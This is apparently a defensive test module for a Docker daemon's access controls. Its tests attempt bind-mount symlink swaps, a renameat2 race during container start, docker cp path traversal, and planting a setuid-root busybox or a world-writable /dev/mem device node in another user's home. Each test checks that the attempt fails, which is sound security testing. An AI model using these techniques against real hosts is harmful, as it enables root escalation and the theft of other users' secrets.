"""Bind sources that change under dockerd, and what container root leaves in a bound home."""

from __future__ import annotations

import ctypes
import io
import os
import shutil
import stat
import tarfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from tests.attacks.plays.played import Played, World, play
from tests.attacks.world import API, SECRET, run_as
from tests.fakes.raw_socket import Answer, exchange, request

_LIBC = ctypes.CDLL(None, use_errno=True)
_CALLS = {
    "start": ("POST", "start"),
    "restart": ("POST", "restart?t=0"),
    "cp-from": ("GET", "archive?path=/m/file"),
    "cp-to": ("PUT", "archive?path=/m"),
}


@contextmanager
def _own_directory(world: World, name: str) -> Iterator[Path]:
    path = Path(world.words["alice"], name)
    path.mkdir()
    shutil.chown(path, world.alice, world.alice)
    try:
        yield path
    finally:
        if path.is_symlink() or path.is_file():
            path.unlink()
        else:
            shutil.rmtree(path, ignore_errors=True)


def _create(world: World, name: str, body: dict[str, object]) -> str:
    made = world.must("alice", "POST", f"/containers/create?name={name}", {"Image": "busybox", **body})
    found: str = made.json["Id"]
    return found


def _upload(world: World, container: str, path: str, archive: bytes) -> Answer:
    sent = request(
        "PUT",
        f"{API}/containers/{container}/archive?path={path}",
        archive,
        headers={"Content-Type": "application/x-tar"},
    )
    return exchange(world.socket("alice"), world.alice, sent)


def _tar(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    spool = io.BytesIO()
    with tarfile.open(fileobj=spool, mode="w") as archive:
        for info, content in members:
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return spool.getvalue()


@play
def swapped_bind(world: World, *, call: str, inherited: bool = False) -> Played:
    """The source was alice's directory at the create; now it leads to bob's. Then dockerd is asked to use it."""
    played = Played()
    with _own_directory(world, "swapped") as source:
        body: dict[str, object] = {"Cmd": ["cat", "/m/file"], "HostConfig": {"Binds": [f"{source}:/m"]}}
        box = _create(world, "box", body)
        if inherited:
            box = _create(world, "heir", {"Cmd": ["cat", "/m/file"], "HostConfig": {"VolumesFrom": ["box"]}})
        source.rmdir()
        source.symlink_to(Path(world.words["bob"], "secret"))
        method, target = _CALLS[call]
        if method == "PUT":
            answer = _upload(world, box, "/m", _tar((tarfile.TarInfo("planted"), b"x")))
        else:
            answer = world.ask(method, f"{API}/containers/{box}/{target}")
        logs = world.ask("GET", f"{API}/containers/{box}/logs?stdout=1&stderr=1")
    played.answers = [answer]
    played.unless(SECRET.encode() not in logs.body, "the container read bob's secret")
    return played


def _drop(world: World, way: str, info: tarfile.TarInfo, content: bytes, script: str) -> Path:
    """Let container root (`write`) or dockerd (`cp`) leave something in alice's directory; gives its path."""
    source = Path(world.words["alice"], "dropped")
    source.mkdir()
    shutil.chown(source, world.alice, world.alice)
    body: dict[str, object] = {"Cmd": ["sh", "-c", script], "HostConfig": {"Binds": [f"{source}:/m"]}}
    box = _create(world, "box", body)
    if way == "cp":
        _upload(world, box, "/m", _tar((info, content)))
    else:
        world.must("alice", "POST", f"/containers/{box}/start")
        world.must("alice", "POST", f"/containers/{box}/wait")
    return source / info.name


@play
def setuid_drop(world: World, *, way: str) -> Played:
    """A setuid-root busybox in alice's home: when alice starts it on the host, it must not be root."""
    played = Played(answers=[Answer(status=200)])
    info = tarfile.TarInfo("rootshell")
    info.mode = 0o4755
    content = Path("/bin/busybox").read_bytes()
    script = "cp /bin/busybox /m/rootshell && chown 0:0 /m/rootshell && chmod 4755 /m/rootshell"
    try:
        dropped = _drop(world, way, info, content, script)
        if dropped.exists():
            ran = run_as(world.alice, str(dropped), "id", "-u")
            played.unless(ran.stdout.strip() != "0", f"{dropped} runs as root: {ran.stdout}")
    finally:
        shutil.rmtree(Path(world.words["alice"], "dropped"), ignore_errors=True)
    return played


@play
def node_drop(world: World, *, way: str) -> Played:
    """A node of the kernel's memory, open to all, in alice's home: opening it as alice must fail."""
    played = Played(answers=[Answer(status=200)])
    info = tarfile.TarInfo("node")
    info.type, info.devmajor, info.devminor, info.mode = tarfile.CHRTYPE, 1, 5, 0o666
    try:
        dropped = _drop(world, way, info, b"", "mknod /m/node c 1 5 && chmod 666 /m/node")
        if dropped.exists() and stat.S_ISCHR(dropped.lstat().st_mode):
            ran = run_as(world.alice, "head", "-c", "1", str(dropped))
            played.unless(ran.returncode, f"{dropped} opens for alice")
    finally:
        shutil.rmtree(Path(world.words["alice"], "dropped"), ignore_errors=True)
    return played


@play
def cp_by_link(world: World) -> Played:
    """docker cp of a path that goes through a link inside the container to bob's secret on the host."""
    box = _create(world, "box", {"Cmd": ["true"]})
    link = tarfile.TarInfo("out")
    link.type, link.linkname = tarfile.SYMTYPE, f"/../../../..{world.words['bob']}/secret"
    _upload(world, box, "/", _tar((link, b"")))
    return Played(answers=[world.ask("GET", f"{API}/containers/{box}/archive?path=/out/file")])


def _exchange(one: Path, other: Path) -> None:
    """Two names change places at once: neither is ever missing. SOURCE: renameat2(2)."""
    at_cwd, exchange_flag = -100, 2
    if _LIBC.renameat2(at_cwd, os.fsencode(one), at_cwd, os.fsencode(other), exchange_flag):
        raise OSError(ctypes.get_errno(), f"{one} and {other} cannot change places")


@play
def bind_swap_race(world: World, *, rounds: int = 40) -> Played:
    """A source that is a directory and a link to bob's secret in turns, as fast as can be, while the container starts.

    The place of the long race: `rounds` starts, the first leak ends it.
    """
    played = Played(answers=[Answer(status=200)])
    home = Path(world.words["alice"])
    link, source = home / "race-link", home / "race"
    source.mkdir()
    shutil.chown(source, world.alice, world.alice)
    link.symlink_to(Path(world.words["bob"], "secret"))
    ended = threading.Event()
    box = _create(world, "box", {"Cmd": ["cat", "/m/file"], "HostConfig": {"Binds": [f"{source}:/m"]}})

    def swap() -> None:
        while not ended.is_set():
            _exchange(source, link)

    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        for number in range(rounds):
            if world.ask("POST", f"{API}/containers/{box}/start").status == 204:
                world.ask("POST", f"{API}/containers/{box}/wait")
            logs = world.ask("GET", f"{API}/containers/{box}/logs?stdout=1")
            if SECRET.encode() in logs.body:
                played.harm.append(f"start {number + 1} of {rounds} mounted bob's secret")
                break
    finally:
        ended.set()
        swapper.join()
        world.ask("DELETE", f"{API}/containers/{box}?force=1")
        for path in (link, source):
            if path.is_symlink():
                path.unlink()
            elif path.exists():
                shutil.rmtree(path)
    return played
